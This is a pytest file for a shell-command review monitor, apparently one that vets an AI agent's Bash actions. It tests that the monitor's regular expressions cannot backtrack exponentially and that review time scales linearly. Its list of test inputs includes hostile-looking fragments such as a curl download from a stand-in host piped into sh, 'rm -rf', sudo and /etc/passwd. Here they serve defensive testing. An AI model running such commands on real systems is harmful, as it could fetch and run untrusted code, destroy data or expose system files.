"""No pattern of the monitors can take exponential time, and the reviewer's work grows with its input and no faster."""

import importlib
import pkgutil
import re
import sys
from collections.abc import Iterable, Iterator
from re import _constants as words  # type: ignore[attr-defined]
from re import _parser as parser  # type: ignore[attr-defined]
from typing import Any

import pytest

import monitors
from monitors.contract.actions import Action, ReviewContext
from monitors.review import make_reviewer
from monitors.review.knowledge.book import RULES
from monitors.review.shell import reader

MANY = 1_000
"""Repetitions from which on a repeat counts as one without end."""
LETTERS = frozenset(map(chr, range(32, 127))) | {"\n", "\t", "é"}
EXCEPTIONS: dict[str, str] = {}
"""Patterns that are nested all the same, by their beginning, each with its reason."""


def letters(item: Any) -> frozenset[str]:
    """The characters that one element can match; all, if it is not one character."""
    kind, value = item
    match kind:
        case words.LITERAL:
            return frozenset({chr(value), chr(value).swapcase()})
        case words.NOT_LITERAL:
            return LETTERS - {chr(value)}
        case words.IN:
            known: set[str] = set()
            for part, given in value:
                if part is words.LITERAL:
                    known |= {chr(given), chr(given).swapcase()}
                elif part is words.RANGE:
                    known |= {letter for letter in LETTERS if given[0] <= ord(letter) <= given[1]}
                elif part is words.CATEGORY:
                    known |= _category(given)
            return LETTERS - known if value[0][0] is words.NEGATE else frozenset(known)
        case words.CATEGORY:
            return frozenset(_category(value))
        case words.MAX_REPEAT | words.MIN_REPEAT:
            return frozenset().union(*(letters(one) for path in paths(value[2]) for one in path))
        case _:
            return LETTERS


def _category(name: Any) -> set[str]:
    patterns = {"DIGIT": r"\d", "SPACE": r"\s", "WORD": r"\w"}
    short = str(name).removeprefix("CATEGORY_")
    found = {letter for letter in LETTERS if re.match(patterns[short.removeprefix("NOT_")], letter)}
    return set(LETTERS) - found if short.startswith("NOT_") else found


def paths(items: Iterable[Any]) -> Iterator[list[Any]]:
    """The sequences that a pattern's elements stand for: one for each alternative, groups taken apart."""
    made: list[list[Any]] = [[]]
    for item in items:
        kind, value = item
        if kind is words.SUBPATTERN:
            inner = list(paths(value[3]))
        elif kind is words.BRANCH:
            inner = [path for branch in value[1] for path in paths(branch)]
        elif kind is words.ATOMIC_GROUP:
            inner = [[]]
        else:
            inner = [[item]]
        made = [before + path for before in made for path in inner][:500]
    yield from made


def endless(item: Any) -> bool:
    return item[0] in (words.MAX_REPEAT, words.MIN_REPEAT) and item[1][1] >= MANY


def nested(items: Iterable[Any]) -> bool:
    """Whether a repeat without end holds another one whose rounds can be told apart by nothing that must stand there."""
    for path in paths(items):
        for item in path:
            if item[0] not in (words.MAX_REPEAT, words.MIN_REPEAT):
                continue
            body = item[1][2]
            if nested(body):
                return True
            if endless(item) and any(_ambiguous(inner) for inner in paths(body)):
                return True
    return False


def _ambiguous(path: list[Any]) -> bool:
    for at, item in enumerate(path):
        if not endless(item):
            continue
        repeated = letters(item)
        others = (one for number, one in enumerate(path) if number != at and one[0] not in (words.AT, words.ASSERT_NOT))
        if not any(_must(one) and letters(one).isdisjoint(repeated) for one in others):
            return True
    return False


def _must(item: Any) -> bool:
    repeated = item[0] in (words.MAX_REPEAT, words.MIN_REPEAT) and item[1][0] > 0
    return repeated or item[0] in (words.LITERAL, words.NOT_LITERAL, words.IN, words.CATEGORY)


def patterns() -> dict[str, str]:
    """Every pattern that stands in a module of the monitors or in the knowledge, with its place."""
    found: dict[str, str] = {}

    def note(value: object, place: str) -> None:
        if isinstance(value, re.Pattern) and isinstance(value.pattern, str):
            found.setdefault(value.pattern, place)
        elif isinstance(value, (tuple, list, frozenset)):
            for each in value:
                note(each, place)
        elif isinstance(value, dict):
            for each in (*value.keys(), *value.values()):
                note(each, place)

    for module in pkgutil.walk_packages(monitors.__path__, "monitors."):
        for name, value in vars(importlib.import_module(module.name)).items():
            note(value, f"{module.name}.{name}")
    for rule in RULES:
        for pattern in rule.match:
            for text in re.findall(r"/(.+?)/(?=\s|\Z)", pattern):
                found.setdefault(text, rule.name)
    return found


def test_no_pattern_can_backtrack_without_end() -> None:
    found = {
        f"{place}: {pattern[:160]}"
        for pattern, place in patterns().items()
        if nested(parser.parse(pattern)) and not pattern.startswith(tuple(EXCEPTIONS))
    }
    assert found == set()


def test_the_check_knows_a_pattern_that_can() -> None:
    for bad in (r"(a+)+b", r"(?:a*)*", r"(?:\s*\w+\s*)*;", r"(?:x|a+)+y", r"((?:ab?)+c?)+"):
        assert nested(parser.parse(bad)), bad
    for fine in (r"a+b+", r"(?:a+,)*", r"(?:\\.|[^\\])*", r"(?:\s+\w+)*", r"(?:a{0,9})*b"):
        assert not nested(parser.parse(fine)), fine


def work(command: str) -> int:
    """How many calls of functions a review makes."""
    counted = 0

    def count(_frame: object, event: str, _of: object) -> None:
        nonlocal counted
        counted += event in ("call", "c_call")

    reviewer = make_reviewer()
    action, context = Action("Bash", {"command": command}, "/w", "/w"), ReviewContext(home="/home/ann")
    reviewer.review(action, context)  # what is compiled at its first use is no work of this one
    reader.remembered.cache_clear()  # of short scripts the tree is remembered, of long ones it is not
    before = sys.getprofile()
    sys.setprofile(count)
    try:
        reviewer.review(action, context)
    finally:
        sys.setprofile(before)
    return counted


PIECES = [
    "echo a; ", "$(echo ", "a=b ", "'a' ", "${a:-", "| cat ", "<<E\n", "if true; then ", "{a,b}", "f() { ", "x=(a ", "`echo` ",
    "ln -s a b; ", "cat a > b; ", "sudo ", "sh -c 'a' ; ", "python3 -c 'x = 1'; ", "git status; ", "/etc/passwd ", "<(a ", "\\\n", "[[ a ",
    "curl -o a https://x.example/a; sh a; ", "rm -rf build; ", "case x in a) ", "x[$(a)]=", "a\\\nb", "=(a", "${x-<(a)",
]  # fmt: skip


@pytest.mark.parametrize("piece", PIECES)
def test_twice_the_input_is_at_most_twice_the_work(piece: str) -> None:
    small, large = work(piece * 150), work(piece * 300)
    assert large <= 2.3 * small + 500, (small, large)
